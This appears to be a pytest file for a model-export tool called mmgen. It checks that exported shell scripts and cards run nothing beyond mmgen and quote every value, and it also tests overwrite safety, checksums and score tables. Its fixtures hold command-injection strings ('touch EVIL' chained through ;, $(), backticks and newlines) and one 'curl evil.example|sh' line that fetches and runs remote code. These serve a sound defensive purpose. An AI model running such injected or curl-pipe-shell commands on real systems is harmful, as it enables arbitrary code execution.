"""What an export makes of text out of files: a shell script and a card that do nothing but what mmgen does."""

import hashlib
import json
import shlex
import subprocess
from dataclasses import dataclass, field
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

import mmgen
from mmgen.artifacts.files import list_exported_files
from mmgen.artifacts.lineage import Node
from mmgen.commands import _exporting as exporting
from mmgen.commands.export import Export
from mmgen.core.errors import ArtifactError, MmgenError, UsageError
from mmgen.core.progress import Watch
from mmgen.descriptions import parse
from mmgen.generation import load
from mmgen.results.score import Score, tabulate_scores

EVIL = "touch EVIL"


def node(command: str, *parents: Node) -> Node:
    return Node("", "model", "", Path("m.safetensors"), "found", command, parents)


LEFT_OUT = "# left out, for it runs a file of Python: look at it first: mmgen train d.h5 --code"


@pytest.mark.parametrize(
    ("command", "said"),
    [(f"{EVIL}; mmgen train", ""), (f"curl evil.example|sh; {EVIL}", ""), (f"mmgen 'train\n{EVIL}'", ""),
     (f"x\n{EVIL}\n", ""), (f"mmgen 'x; {EVIL}", ""),
     ("mmgen train d.h5 --code evil.py --objective evil", LEFT_OUT), ("mmgen train d.h5 --code=evil.py", LEFT_OUT)],
)  # fmt: skip
def test_what_is_no_command_or_runs_a_file_of_python_is_a_comment_of_one_line(command: str, said: str) -> None:
    (line,) = exporting._lineage_commands(node(command))
    assert line.startswith(said or "# left out") and line.isprintable()


def test_the_commands_of_a_file_run_mmgen_and_nothing_else(tmp_path: Path) -> None:
    nasty = f"mmgen train d.h5; {EVIL} & $({EVIL}) `{EVIL}` > EVIL | {EVIL} -o 'two  words'"
    lines = exporting._lineage_commands(node(nasty, node("mmgen make-data mnist -o d.h5"), node(f"x\n{EVIL}")))
    assert lines[0] == "mmgen make-data mnist -o d.h5" and [line[:2] for line in lines] == ["mm", "# ", "mm"]
    assert shlex.split(lines[2]) == shlex.split(nasty)
    (tmp_path / "mmgen").write_text("#!/bin/sh\n")
    (tmp_path / "mmgen").chmod(0o755)
    environment = {"PATH": f"{tmp_path}:/usr/bin:/bin"}
    subprocess.run(["sh"], input="\n".join(lines), text=True, check=True, cwd=tmp_path, env=environment, timeout=60)
    assert [path.name for path in tmp_path.iterdir()] == ["mmgen"]


@dataclass
class Words:
    names: tuple[str, ...]
    values: tuple[tuple[str, ...], ...]


@dataclass
class Loaded:
    attributes: Words
    description_kind: str = "attributes"
    posteriors: SimpleNamespace = field(default_factory=lambda: SimpleNamespace(default="own"))

    def reads(self, posterior: str) -> bool:
        return True


def test_any_value_can_be_drawn_from_and_is_no_code_in_the_card() -> None:
    words = Words(("kind",), (("a;b", "x,y", "dark é", f"$({EVIL})", "it's", '"'),))
    asked = exporting._example_descriptions(Loaded(words))  # type: ignore[arg-type]  # the parts that are read
    assert [int(parse(text, words).codes[0]) for text in asked] == [0, 1, 2, 3]
    for text in asked:
        assert shlex.split(exporting._sample_command(text))[4] == text
    ran = subprocess.run(
        ["sh", "-c", exporting._sample_command(asked[3]).replace("mmgen", "echo")], capture_output=True
    )
    assert f"$({EVIL})" in ran.stdout.decode()
    assert parse(f"kind={exporting.quote_value(words.values[0][4])}", words).codes[0] == 4


def sums(folder: Path, *names: str) -> None:
    lines = [f"{hashlib.sha256((folder / name).read_bytes()).hexdigest()}  {name}\n" for name in names]
    (folder / "SHA256SUMS").write_text("".join(lines))


def test_nothing_stays_of_an_earlier_export_and_all_that_is_of_others(tmp_path: Path, monkeypatch: Any) -> None:
    def fill(folder: Path, *others: Any, **further: Any) -> list[str]:
        (folder / "model.safetensors").write_text("new")
        sums(folder, "model.safetensors")
        return ["model.safetensors", "SHA256SUMS"]

    monkeypatch.setattr("mmgen.generation.load", lambda path: None)
    monkeypatch.setattr(exporting, "make_export_files", fill)
    for name in (*EXPORTED, "aggregate.safetensors", "notes.txt", "own.txt"):
        (tmp_path / name).write_text("old")
    sums(tmp_path, *EXPORTED, "aggregate.safetensors", "notes.txt")
    Export(Path("m"), tmp_path, overwrite=True).run()
    assert {path.name for path in tmp_path.iterdir()} == {"model.safetensors", "SHA256SUMS", "notes.txt", "own.txt"}
    assert list_exported_files(tmp_path) == ["model.safetensors"]


EXPORTED = ("README.md", "commands.sh", "model.safetensors")


@pytest.mark.parametrize(
    ("files", "listed"),
    [
        (("README.md",), ()),
        (("commands.sh", "model.safetensors"), ()),
        (("README.md", "data.h5"), ("README.md", "data.h5")),
        (("data.h5",), ("data.h5",)),
        ((*EXPORTED, "judge.safetensors"), EXPORTED),
    ],
)
def test_what_no_export_has_written_is_kept(files: Any, listed: Any, tmp_path: Path, monkeypatch: Any) -> None:
    monkeypatch.setattr("mmgen.generation.load", lambda path: pytest.fail("it is loaded"))
    for name in files:
        (tmp_path / name).write_text("mine")
    if listed:
        sums(tmp_path, *listed)
    before = {path.name: path.read_bytes() for path in tmp_path.iterdir()}
    with pytest.raises(UsageError, match=r"which no export has written, .* would be lost; choose another folder"):
        Export(Path("m"), tmp_path, overwrite=True).run()
    assert {path.name: path.read_bytes() for path in tmp_path.iterdir()} == before


def test_a_folder_is_opened_by_what_its_checksums_name(tmp_path: Path, monkeypatch: Any) -> None:
    opened: list[Path] = []
    header = SimpleNamespace(kind="model")
    monkeypatch.setattr("mmgen.generation.loading.require_kind", lambda path, *_: opened.append(path) or header)
    monkeypatch.setattr("mmgen.generation.loading.load_model", lambda *_: (header, None, None))
    monkeypatch.setattr("mmgen.generation.loading.TrainedModel", lambda *_: None)
    for name in ("aggregate.safetensors", "model.safetensors"):
        (tmp_path / name).write_text("")
    load(tmp_path)
    sums(tmp_path, "model.safetensors")
    load(tmp_path)
    assert [path.name for path in opened] == ["aggregate.safetensors", "model.safetensors"]


# Permissions say nothing where tests run as the superuser; /sys takes files from nobody, and only Linux has it.
@pytest.mark.skipif(not Path("/sys").is_dir(), reason="there is no /sys")
@pytest.mark.parametrize("name", ["out", "out.zip"])
def test_a_folder_that_takes_no_files_is_refused_before_anything_is_loaded(name: str, monkeypatch: Any) -> None:
    monkeypatch.setattr("mmgen.generation.load", lambda path: pytest.fail("loaded"))
    with pytest.raises(ArtifactError, match=f"cannot write /sys/{name}"):
        Export(Path("m.safetensors"), Path("/sys") / name).run()


def test_a_card_tells_scores_of_several_judges_apart() -> None:
    def of(judge: str, accuracy: float) -> Score:
        told = {"judge_accuracy": {"mean": accuracy}, "ids": {"judge": judge}, "judge": judge}
        return Score("correctness", "correctness", 80.0, 0.5, "%", "higher", 10, "own", 2, **told)

    both = tabulate_scores([of("small", 94.0), of("attentive", 97.0)]).markdown()
    assert "| correctness | q(z\\|y) | small | 2 | 80.0 ± 0.5 | 10 | 94.0 |" in both
    assert "| correctness | q(z\\|y) | attentive | 2 | 80.0 ± 0.5 | 10 | 97.0 |" in both
    assert "small" not in tabulate_scores([of("small", 94.0)]).markdown()


def test_an_export_draws_words_far_from_its_dataset(tmp_path: Path) -> None:
    """A model that reads words has those that complete them with it; one that reads none says so first."""
    data, said = tmp_path / "shapes.h5", list[str]()
    (tmp_path / "far").mkdir()
    mmgen.make_data("shapes", data, number=60, size=16, workers=1, progress=False)
    few: dict[str, Any] = {"batch": 8, "steps": 1, "progress": False, "settings": {"model": {"latent_size": 2}}}
    for objective in ("jmvae", "elbo"):
        mmgen.train(data, tmp_path / f"{objective}.safetensors", objective=objective, **few)
    watch = Watch()
    watch.say = said.append  # type: ignore[method-assign]
    for objective in ("jmvae", "elbo"):
        Export(tmp_path / f"{objective}.safetensors", tmp_path / "far" / objective, progress=watch).run()
    advice = [line for line in said if "draws from no words" in line]
    assert len(advice) == 1 and "elbo.safetensors draws from no words: fit a posterior with" in advice[0]
    near = load(tmp_path / "jmvae.safetensors").completions
    data.unlink()
    exported = tmp_path / "far" / "jmvae"
    far = load(exported)
    assert (far.completions.rows == near.rows).all() and (far.completions.counts == near.counts).all()
    assert far.sample("shape=heart", n=2).shape[0] == 2
    words = json.loads((exported / "words.json").read_text())
    for change, says in (
        ({"counts": [-1] * len(words["counts"])}, "is damaged or was changed"),
        ({"descriptions": [[9] * 4] * len(words["counts"])}, "is damaged or was changed"),
        ({"descriptions": 3}, "is damaged or was changed"),
        ({"model": "another"}, "open words of a description are completed from training descriptions, which cannot"),
    ):
        (exported / "words.json").write_text(json.dumps({**words, **change}))
        with pytest.raises(MmgenError, match=says):
            load(exported).sample("shape=heart", n=2)
